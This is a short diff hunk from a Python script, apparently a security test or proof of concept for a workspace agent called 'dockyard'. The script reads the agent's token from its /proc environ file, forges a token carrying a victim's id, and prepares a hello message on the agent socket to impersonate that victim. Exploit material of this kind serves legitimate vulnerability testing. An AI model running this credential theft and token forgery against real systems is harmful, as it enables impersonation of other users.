@@ -106,7 +106,7 @@ import json, os, socket, struct
 s = socket.socket(socket.AF_UNIX); s.connect("/run/dockyard/agent.sock")
 # The agent keeps its token out of the commands it runs; the workspace user can still read it from the
 # agent's /proc entry (same uid), so take the real one and graft the victim's id onto its secret.
-agent = os.popen("pgrep -f /run/dockyard/agent.py").read().split()[0]
+agent = os.popen("pgrep -u dev -f /run/dockyard/agent.py").read().split()[0]  # not root's docker-init
 env = dict(v.split("=", 1) for v in open(f"/proc/{{agent}}/environ").read().split(chr(0)) if "=" in v)
 forged = "dya_{victim.id}_" + env["DOCKYARD_AGENT_TOKEN"].rsplit("_", 1)[1]
 body = json.dumps({{"type": "hello", "token": forged, "version": "x", "protocol": 1}}).encode()
